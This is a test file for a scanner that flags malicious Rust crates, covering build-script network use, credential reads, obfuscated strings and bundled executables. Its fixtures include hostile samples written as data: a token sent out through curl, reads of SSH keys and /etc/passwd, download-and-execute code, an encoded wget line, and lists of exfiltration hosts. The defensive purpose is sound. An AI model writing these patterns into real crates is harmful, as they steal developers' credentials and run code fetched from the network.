import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { buffer } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { packCrate } from '../../tools/security/package-checks/index.ts'
import {
  codeFacts,
  crateFromFiles,
  CrateReadError,
  DEFAULT_THRESHOLD,
  DEFAULT_WEIGHTS,
  fileFormat,
  HEURISTICS,
  type MemoryFile,
  readCrate,
  readCrateArchive,
  type ScanOptions,
  scanCrate,
  stringSources,
  rustCode,
} from '../../tools/security/sandpit/index.ts'
import { elf, noise, pe } from './helpers/sandpit-corpus.ts'

const manifest = (more = '') => ({ path: 'Cargo.toml', content: `[package]\nname = "demo"\nversion = "0.1.0"\n${more}` })

function scan(files: MemoryFile[], options?: ScanOptions) {
  return scanCrate(crateFromFiles([manifest(), ...files]), options)
}

/** `[heuristic, file, line]` of each finding. */
function found(files: MemoryFile[], options?: ScanOptions) {
  return scan(files, options).findings.map((finding) => [finding.heuristic, finding.file, finding.line])
}

function build(code: string): MemoryFile {
  return { path: 'build.rs', content: code }
}

describe('heuristics', () => {
  test('[heur.intro] each heuristic is its own rule with a severity and a default weight', () => {
    for (const heuristic of HEURISTICS) {
      expect(heuristic.ruleId).toBe(`heur.${heuristic.name}`)
      expect(['low', 'medium', 'high', 'critical']).toContain(heuristic.severity)
      expect(DEFAULT_WEIGHTS[heuristic.name]).toBe(heuristic.weight)
    }
    expect(HEURISTICS).toHaveLength(14)
    expect(DEFAULT_THRESHOLD).toBe(50)
  })

  test('[heur.build-network] network APIs in build scripts and procedural macros, and network crates among their dependencies', () => {
    expect(found([build('use std::net::TcpStream;\nfn main() { let _ = TcpStream::connect("10.0.0.1:80"); }')])).toEqual([
      ['build-network', 'build.rs', 1],
      ['build-network', 'build.rs', 2],
      ['build-url', 'build.rs', 2],
    ])
    const withDependency = scanCrate(crateFromFiles([manifest('[build-dependencies]\nreqwest = "0.11"\n'), build('fn main() {}')]))
    expect(withDependency.findings.map((f) => [f.heuristic, f.file, f.line, f.evidence])).toEqual([
      ['build-network', 'Cargo.toml', 5, 'depends on `reqwest`, a network crate, as a build dependency'],
    ])
    const procMacro = scanCrate(crateFromFiles([manifest('[lib]\nproc-macro = true\n'), { path: 'src/lib.rs', content: 'fn x() { ureq::get("http://a.example/"); }' }]))
    expect(procMacro.signals.map((signal) => signal.heuristic)).toEqual(['build-network', 'build-url'])
    // The same code in the library of an ordinary crate runs only when the crate's user runs it.
    expect(found([{ path: 'src/lib.rs', content: 'fn x() { ureq::get("http://a.example/"); }' }])).toEqual([])
  })

  test('[heur.build-url] URLs and IPv4 addresses in build-time strings, not loopback addresses', () => {
    expect(found([build('fn main() { panic!("see https://docs.rs/x"); let a = "192.168.1.20:8080"; let l = "127.0.0.1:80"; }')])).toEqual([['build-url', 'build.rs', 1]])
    expect(scan([build('fn main() { let a = "203.0.113.9:8080"; }')]).findings[0]!.evidence).toBe('names 203.0.113.9:8080: string "203.0.113.9:8080"')
  })

  test('[heur.build-process] programs outside the allowed build tools, followed back through bindings', () => {
    const code = [
      'use std::{env, process::Command};',
      'fn main() {',
      '    let rustc = env::var_os("RUSTC").unwrap();',
      '    Command::new(rustc).arg("--version").status().unwrap();',
      '    Command::new("git").args(["rev-parse", "HEAD"]).status().unwrap();',
      '    let shell = "sh";',
      '    Command::new(shell).arg("-c").arg("id").status().unwrap();',
      '    match env::var("PYTHON") { Ok(python) => { Command::new(python).status().unwrap(); } Err(_) => {} }',
      '}',
    ].join('\n')
    const report = scan([build(code)])
    expect(report.findings.map((f) => [f.heuristic, f.line, f.evidence])).toEqual([
      ['build-process', 7, 'starts `sh`: Command::new(shell).arg("-c").arg("id").status().unwrap();'],
      ['build-process', 8, 'starts `$PYTHON`: match env::var("PYTHON") { Ok(python) => { Command::new(python).status().unwrap(); } Err(_) => {} }'],
    ])
    // The allowed programs are configuration.
    expect(scan([build(code)], { allowedPrograms: ['$RUSTC', 'git', 'sh', '$PYTHON'] }).findings).toEqual([])
    expect(scan([build(code)], { allowedPrograms: [] }).findings).toHaveLength(4)
  })

  test('[heur.exfil-host] messaging, paste and webhook hosts in any code users build, as a host, not inside another word', () => {
    expect(found([{ path: 'src/lib.rs', content: 'const A: &str = "https://api.telegram.org/bot1/sendMessage";\nconst B: &str = "content.meta";\nconst C: &str = "https://t.me/x";' }])).toEqual([
      ['exfil-host', 'src/lib.rs', 1],
      ['exfil-host', 'src/lib.rs', 3],
    ])
    expect(found([{ path: 'examples/bot.rs', content: 'const A: &str = "https://hooks.slack.com/x";' }])).toEqual([])
    expect(found([{ path: 'src/lib.rs', content: 'const A: &str = "https://my.host/x";' }], { exfilHosts: ['my.host'] })).toEqual([['exfil-host', 'src/lib.rs', 1]])
  })

  test('[heur.secret-env] CI and credential variables or credential files read at build time, with network or process use', () => {
    const reads = 'let t = std::env::var("CARGO_REGISTRY_TOKEN"); let k = std::fs::read(home.join(".ssh/id_ed25519")); let r = std::env::var("CARGO_REGISTRIES_MY_CORP_TOKEN");'
    expect(found([build(`fn main() { ${reads} }`)])).toEqual([])
    const reaching = found([build(`fn main() {\n${reads}\nstd::process::Command::new("curl").arg("-d").arg(&t).status(); }`)])
    expect(reaching.filter(([heuristic]) => heuristic === 'secret-env')).toEqual([['secret-env', 'build.rs', 2]])
    expect(scan([build(`fn main() {\n${reads}\nlet s = std::net::TcpStream::connect(addr); }`)]).findings.filter((f) => f.heuristic === 'secret-env').map((f) => f.evidence)).toEqual([
      'reads CARGO_REGISTRY_TOKEN and uses `TcpStream`: string "CARGO_REGISTRY_TOKEN"',
    ])
  })

  test('[heur.ci-gated] run-time code that reads a CI variable or credential file and reaches out', () => {
    const gated = 'pub fn f() { if std::env::var("GITLAB_CI").is_ok() { let _ = reqwest::blocking::get(URL); } }'
    expect(found([{ path: 'src/lib.rs', content: gated }])).toEqual([['ci-gated', 'src/lib.rs', 1]])
    // A token read by an API client is not CI gating; CI read by code that reaches nothing is not either.
    expect(found([{ path: 'src/lib.rs', content: 'pub fn f() { let t = std::env::var("GITHUB_TOKEN"); let _ = reqwest::get(URL); }' }])).toEqual([])
    expect(found([{ path: 'src/lib.rs', content: 'pub fn ci() -> bool { std::env::var("CI").is_ok() }' }])).toEqual([])
  })

  test('[heur.host-fingerprint] who and where the build runs, read at build time by code that uses the network', () => {
    const code = 'fn main() {\nlet u = std::env::var("USER");\nlet h = whoami::hostname();\nlet hostname = 3;\nlet p = std::fs::read_to_string("/etc/passwd");\nlet s = std::net::TcpStream::connect(a); }'
    expect(found([build(code)]).filter(([heuristic]) => heuristic === 'host-fingerprint')).toEqual([
      ['host-fingerprint', 'build.rs', 2],
      ['host-fingerprint', 'build.rs', 3],
      ['host-fingerprint', 'build.rs', 5],
    ])
    expect(found([build(code.replace('let s = std::net::TcpStream::connect(a);', ''))])).toEqual([])
  })

  test('[heur.download-exec] network use, a file written and a program started, in one unit', () => {
    const code = 'pub fn f() { let b = reqwest::blocking::get(U).unwrap().bytes().unwrap(); std::fs::write("/tmp/x", b).unwrap(); std::process::Command::new("/tmp/x").spawn(); }'
    expect(found([{ path: 'src/lib.rs', content: code }])).toEqual([['download-exec', 'src/lib.rs', 1]])
    expect(found([{ path: 'src/lib.rs', content: code.replace('std::fs::write("/tmp/x", b).unwrap();', '') }])).toEqual([])
  })

  test('[heur.bundled-executable] ELF, PE and Mach-O files by their first bytes, whatever their names', () => {
    const macho = new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])
    const fat = new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])
    const javaClass = new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])
    expect(found([{ path: 'data/a.txt', content: elf(100, 1) }, { path: 'b', content: pe(300, 2) }, { path: 'c', content: macho }, { path: 'd', content: fat }, { path: 'e.class', content: javaClass }, { path: 'f', content: 'MZ but text' }])).toEqual([
      ['bundled-executable', 'b', null],
      ['bundled-executable', 'c', null],
      ['bundled-executable', 'd', null],
      ['bundled-executable', 'data/a.txt', null],
    ])
    expect(fileFormat(javaClass)).toBeUndefined()
    expect(scan([{ path: 'x', content: elf(1234, 3) }]).findings[0]!.evidence).toBe('is an ELF executable of 1234 bytes')
  })

  test('[heur.opaque-blob] large files of near-random bytes, except images and fonts', () => {
    const png = noise(600 * 1024, 4)
    png.set([0x89, 0x50, 0x4e, 0x47], 0)
    expect(found([{ path: 'data/blob.dat', content: noise(600 * 1024, 5) }, { path: 'small.dat', content: noise(1024, 6) }, { path: 'image.png', content: png }, { path: 'text.txt', content: 'words '.repeat(200_000) }])).toEqual([
      ['opaque-blob', 'data/blob.dat', null],
    ])
    expect(found([{ path: 'small.dat', content: noise(1024, 6) }], { minBlobBytes: 1000 })).toEqual([['opaque-blob', 'small.dat', null]])
  })

  test('[heur.include-binary] include_bytes! of an executable, a blob, or a missing file named like an executable', () => {
    const code = 'static A: &[u8] = include_bytes!("../assets/tool");\nstatic B: &[u8] = include_bytes!("payload.exe");\nstatic C: &[u8] = include_bytes!("table.bin");\nstatic D: &[u8] = include_bytes!(concat!(env!("OUT_DIR"), "/gen.bin"));'
    expect(found([{ path: 'src/lib.rs', content: code }, { path: 'assets/tool', content: elf(64, 7) }, { path: 'src/table.bin', content: 'plain data' }])).toEqual([
      ['bundled-executable', 'assets/tool', null],
      ['include-binary', 'src/lib.rs', 1],
      ['include-binary', 'src/lib.rs', 2],
    ])
  })

  test('[heur.encoded-literal] a run of base64 or hex of at least 256 characters in one literal, outside test code', () => {
    const base64 = Buffer.from(noise(300, 8)).toString('base64')
    const hex = Buffer.from(noise(130, 9)).toString('hex')
    expect(found([{ path: 'src/lib.rs', content: `const A: &str = "${base64}";\nconst B: &str = "${hex}";\nconst C: &str = "${'a'.repeat(400)}";\n#[cfg(test)]\nmod t { const D: &str = "${base64}"; }` }])).toEqual([
      ['encoded-literal', 'src/lib.rs', 1],
      ['encoded-literal', 'src/lib.rs', 2],
    ])
    expect(found([{ path: 'tests/vectors.rs', content: `const A: &str = "${base64}";` }])).toEqual([])
    expect(found([{ path: 'src/lib.rs', content: `const A: &str = "${hex.slice(0, 100)}";` }], { minEncodedLength: 64 })).toEqual([['encoded-literal', 'src/lib.rs', 1]])
  })

  test('[heur.obfuscated-string] strings built char by char, from bytes, XOR\'d, reversed, decoded, or split so that no piece shows them', () => {
    const bytes = [...Buffer.from('https://a.example/x')].join(', ')
    const xored = [...Buffer.from('pastebin.com')].map((b) => b ^ 0x21).join(', ')
    const code = [
      "let h: String = ['c', 'u', 'r', 'l', ' '].iter().collect();",
      `let u = String::from_utf8(vec![${bytes}]).unwrap();`,
      `let x: String = [${xored}].iter().map(|b| (b ^ 0x21) as char).collect();`,
      'let r: String = "gro.margelet.ipa".chars().rev().collect();',
      `let b = decode("${Buffer.from('wget http://203.0.113.7/p').toString('base64')}");`,
      'let c = concat!("GITLAB", "_CI");',
      'let j = "api.tele".to_owned() + "gram.org";',
      'let plain = concat!("https://docs.rs/", env!("CARGO_PKG_NAME"));',
    ].join('\n')
    const report = scan([{ path: 'src/lib.rs', content: `fn f() {\n${code}\n}` }])
    expect(report.findings.filter((f) => f.heuristic === 'obfuscated-string').map((f) => [f.line, f.evidence])).toEqual([
      [2, 'hides the program curl: string built by chars from 5 pieces "curl "'],
      [3, 'hides the address https://a.example/x: string built by bytes from 19 pieces "https://a.example/x"'],
      [4, 'hides the host pastebin.com: string built by xor from 12 pieces "pastebin.com"'],
      [5, 'hides the host api.telegram.org: string built by reversed from 1 piece "api.telegram.org"'],
      [6, 'hides the address http://203.0.113.7/p: string built by base64 from 1 piece "wget http://203.0.113.7/p"'],
      [7, 'hides the variable GITLAB_CI: string built by concat from 2 pieces "GITLAB_CI"'],
      [8, 'hides the host api.telegram.org: string built by joined from 2 pieces "api.telegram.org"'],
    ])
  })

  test('[heur.write-outside-out-dir] build-time writes to a path not built from OUT_DIR', () => {
    const code = [
      'use std::{env, fs, path::PathBuf};',
      'fn main() {',
      '    let out = PathBuf::from(env::var("OUT_DIR").unwrap());',
      '    let dest = out.join("gen.rs");',
      '    fs::write(&dest, "").unwrap();',
      '    fs::write("generated.rs", "").unwrap();',
      '    let home = env::var("HOME").unwrap();',
      '    fs::File::create(format!("{}/.bashrc", home)).unwrap();',
      '    fs::create_dir_all(dirs::home_dir().unwrap().join(".config/x")).unwrap();',
      '    std::fs::OpenOptions::new().append(true).open("/etc/hosts").unwrap();',
      '    fs::copy(&dest, out.join("copy.rs")).unwrap();',
      '    write_somewhere(&path);',
      '}',
    ].join('\n')
    expect(found([build(code)])).toEqual([
      ['write-outside-out-dir', 'build.rs', 6],
      ['write-outside-out-dir', 'build.rs', 8],
      ['write-outside-out-dir', 'build.rs', 9],
      ['write-outside-out-dir', 'build.rs', 10],
    ])
    expect(found([{ path: 'src/lib.rs', content: 'pub fn save() { std::fs::write("notes.txt", "").unwrap(); }' }])).toEqual([])
  })
})

describe('reading code', () => {
  test('[heur.tokens] a suspicious word in a comment or a doc string is not a finding', () => {
    const code = [
      '//! Never sends anything to https://api.telegram.org or reads GITLAB_CI.',
      '/* TcpStream::connect("203.0.113.1:80"); Command::new("sh") /* nested: include_bytes!("x.exe") */ */',
      '#![doc = "https://discord.com/api/webhooks/1/2 and CARGO_REGISTRY_TOKEN"]',
      '/// ureq::get("https://pastebin.com/raw/x")',
      'fn main() { println!("cargo:rerun-if-changed=build.rs"); }',
    ].join('\n')
    expect(scan([build(code)]).findings).toEqual([])
    // The same text as code is found.
    expect(scan([build('fn main() { let _ = std::net::TcpStream::connect("203.0.113.1:80"); }')]).signals.map((s) => s.heuristic)).toEqual(['build-network', 'build-url'])
  })

  test('[heur.tokens] a lifetime is not the start of a char literal that would hide the code after it', () => {
    const code = "fn main() { struct S<'a>(&'a str); let _ = std::net::TcpStream::connect(\"203.0.113.1:80\"); let c = '\"'; }"
    expect(scan([build(code)]).signals.map((s) => s.heuristic)).toEqual(['build-network', 'build-url'])
  })

  test('[heur.strings] string sources: literals, concat!, joined runs, chars, bytes, XOR, reversed, base64 and hex', () => {
    const sources = stringSources(rustCode('let a = concat!("a", 1, \'b\', true);\nlet s = "x".to_owned() + "y";\n#[doc = "d"] fn f() {}\nlet h = "68656c6c6f2c20776f726c6421";'))
    expect(sources.map((s) => [s.how, s.text])).toEqual([
      ['concat', 'a1btrue'],
      ['literal', 'a'],
      // A run of literals ends at a new binding (`let`), a block or an item.
      ['joined', 'ab'],
      ['literal', 'x'],
      ['literal', 'y'],
      ['joined', 'xy'],
      ['literal', '68656c6c6f2c20776f726c6421'],
      ['hex', 'hello, world!'],
    ])
  })

  test('[heur.units] build scripts (also in a folder of their own) and procedural macros are build time; tests, benches and examples are neither', () => {
    const network = 'fn main() { let _ = std::net::TcpStream::connect(A); }'
    const inFolder = scanCrate(crateFromFiles([manifest('build = "build/main.rs"\n'), { path: 'build/main.rs', content: 'mod probe; fn main() {}' }, { path: 'build/probe.rs', content: network }]))
    expect(inFolder.findings.map((f) => f.file)).toEqual(['build/probe.rs'])
    const off = scanCrate(crateFromFiles([manifest('build = false\n'), build(network)]))
    expect(off.findings).toEqual([])
    expect(found([{ path: 'tests/it.rs', content: network }, { path: 'benches/b.rs', content: network }, { path: 'examples/e.rs', content: network }])).toEqual([])
    const facts = codeFacts('src/x.rs', '#[cfg(test)] mod t { fn f() { std::process::Command::new("sh"); } }')
    expect(facts.spawns).toEqual([])
  })
})

describe('score and report', () => {
  const twoSignals = [build('fn main() {\nlet _ = std::net::TcpStream::connect("203.0.113.1:80");\nlet _ = std::net::UdpSocket::bind(B); }')]

  test('[heur.score] the weight of each heuristic that found anything, once; suspicious at or above the threshold', () => {
    const report = scan(twoSignals)
    expect(report.signals).toEqual([
      { heuristic: 'build-network', weight: 40, findings: 2 },
      { heuristic: 'build-url', weight: 15, findings: 1 },
    ])
    expect([report.score, report.threshold, report.verdict]).toEqual([55, 50, 'suspicious'])
    expect(scan(twoSignals, { threshold: 55 }).verdict).toBe('suspicious')
    expect(scan(twoSignals, { threshold: 56 }).verdict).toBe('clean')
    expect(scan(twoSignals, { weights: { 'build-network': 5 } })).toMatchObject({ score: 20, verdict: 'clean' })
  })

  test('[heur.report] findings by file, line (whole files first) and heuristic, with evidence; at most a set number per heuristic', () => {
    const report = scan([build('fn main() {\nlet a = std::net::TcpStream::connect(A);\nlet b = std::net::TcpStream::connect(B);\nlet c = std::net::TcpStream::connect(C); }'), { path: 'a.bin', content: elf(64, 9) }], { maxFindingsPerHeuristic: 2 })
    expect(report.findings.map((f) => [f.file, f.line, f.heuristic, f.severity])).toEqual([
      ['a.bin', null, 'bundled-executable', 'high'],
      ['build.rs', 2, 'build-network', 'high'],
      ['build.rs', 3, 'build-network', 'high'],
    ])
    expect(report.findings[1]!.evidence).toBe('uses `TcpStream`: let a = std::net::TcpStream::connect(A);')
    expect(report.suppressed).toEqual({ 'build-network': 1 })
    expect(report.signals.find((s) => s.heuristic === 'build-network')?.findings).toBe(3)
    expect(report.crate).toBe('demo-0.1.0')
  })

  test('[heur.report] evidence escapes control and bidirectional characters and is cut short', () => {
    const report = scan([build(`fn main() { let _ = std::net::TcpStream::connect(A); /* \u202e */ let x = "${'y'.repeat(300)}"; }`)])
    const evidence = report.findings[0]!.evidence
    expect(evidence).toContain('\\u{202E}')
    expect(evidence.length).toBeLessThanOrEqual(170)
    expect(evidence.endsWith('…')).toBe(true)
  })

  test('[heur.config] options are checked before anything is scanned', () => {
    const crate = crateFromFiles([manifest()])
    expect(() => scanCrate(crate, { threshold: -1 })).toThrow('Expected scan option `threshold` to be a non-negative integer, got -1')
    expect(() => scanCrate(crate, { weights: { 'no-such': 3 } })).toThrow(/^Unexpected heuristic `no-such` in weights, expected one of `build-network`/)
    expect(() => scanCrate(crate, { colour: 'red' } as ScanOptions)).toThrow(/^Unexpected scan option `colour`/)
    expect(() => scanCrate(crate, { exfilHosts: 'pastebin.com' as unknown as string[] })).toThrow('Expected scan option `exfilHosts` to be a list of strings')
  })
})

describe('inputs', () => {
  let work: string
  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), 'ferrule-sandpit-'))
  })
  afterAll(async () => {
    await rm(work, { recursive: true, force: true })
  })

  test('[heur.inputs] a .crate through the package checks\' reader, a source folder, or files in memory give the same report', async () => {
    const files = [
      { path: 'Cargo.toml', content: '[package]\nname = "twin"\nversion = "1.2.3"\n' },
      { path: 'build.rs', content: 'fn main() { let _ = std::net::TcpStream::connect("203.0.113.1:80"); }' },
      { path: 'src/lib.rs', content: 'pub fn f() {}' },
    ]
    const fromMemory = scanCrate(crateFromFiles(files))
    const archive = await buffer(packCrate(files.map((file) => ({ path: `twin-1.2.3/${file.path}`, content: file.content }))))
    const fromArchive = scanCrate(await readCrateArchive(archive, 'twin-1.2.3.crate'))
    const folder = path.join(work, 'twin')
    await mkdir(path.join(folder, 'src'), { recursive: true })
    await mkdir(path.join(folder, 'target'), { recursive: true })
    for (const file of files) await writeFile(path.join(folder, file.path), file.content)
    await writeFile(path.join(folder, 'target/evil.rs'), 'fn main() { ureq::get("https://pastebin.com/x"); }')
    const fromFolder = scanCrate(await readCrate(folder))
    const crateFile = path.join(work, 'twin-1.2.3.crate')
    await writeFile(crateFile, archive)
    const fromFile = scanCrate(await readCrate(crateFile))
    expect(fromArchive).toEqual(fromMemory)
    expect(fromFolder).toEqual(fromMemory)
    expect(fromFile).toEqual(fromMemory)
    expect(fromMemory).toMatchObject({ crate: 'twin-1.2.3', score: 55 })
  })

  test('[heur.inputs] an input that cannot be read is an error that names it; a manifest that is not TOML is a note', async () => {
    await expect(readCrate(path.join(work, 'missing.crate'))).rejects.toThrow(new CrateReadError(`${path.join(work, 'missing.crate')}: cannot read the crate (ENOENT)`))
    const corrupt = path.join(work, 'corrupt.crate')
    await writeFile(corrupt, 'not gzip at all')
    await expect(readCrate(corrupt)).rejects.toThrow(/corrupt\.crate: not a readable \.crate \(gzip'd tar\)/)
    const report = scanCrate(crateFromFiles([{ path: 'Cargo.toml', content: '[package\nname =' }, build('fn main() {}')]))
    expect(report.notes).toEqual([expect.stringMatching(/^Cargo\.toml is not valid TOML/)])
    expect(report.crate).toBe('crate')
  })

  test('[heur.inputs] a source file past the size limit is listed as not read, not scanned', () => {
    const report = scanCrate(crateFromFiles([manifest(), build(`fn main() { let _ = std::net::TcpStream::connect(A); } // ${'x'.repeat(200)}`)], { maxSourceBytes: 100 }))
    expect(report.findings).toEqual([])
    expect(report.notes).toEqual(['build.rs: larger than 100 bytes, not read as source'])
  })
})
